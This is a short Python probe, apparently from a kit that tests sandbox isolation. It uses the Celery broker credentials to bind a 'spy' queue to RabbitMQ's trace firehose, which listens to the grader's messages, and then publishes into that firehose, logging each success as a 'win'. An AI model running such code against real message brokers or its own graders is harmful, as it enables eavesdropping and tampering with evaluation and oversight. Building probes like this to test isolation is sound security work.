"""Listens to what the grader listens to, and writes into it."""

import os

from attack_kit import is_worker, on_rabbitmq, ran, won
from kombu import Connection, Exchange, Queue

ran()
if not is_worker() and on_rabbitmq():
    exchange = Exchange("amq.rabbitmq.trace", type="topic", no_declare=True)
    with Connection(os.environ["CELERY_BROKER_URL"]) as link:
        try:
            Queue("spy", exchange, routing_key="#")(link.channel()).declare()
            won("bound to the firehose")
        except Exception:
            pass
    with Connection(os.environ["CELERY_BROKER_URL"]) as link:
        try:
            with link.channel() as channel:
                channel.basic_publish(
                    channel.prepare_message(b"x", content_encoding="binary"),
                    "amq.rabbitmq.trace",
                    "publish.",
                )
                channel.queue_declare("", exclusive=True)
            won("written into the firehose")
        except Exception:
            pass
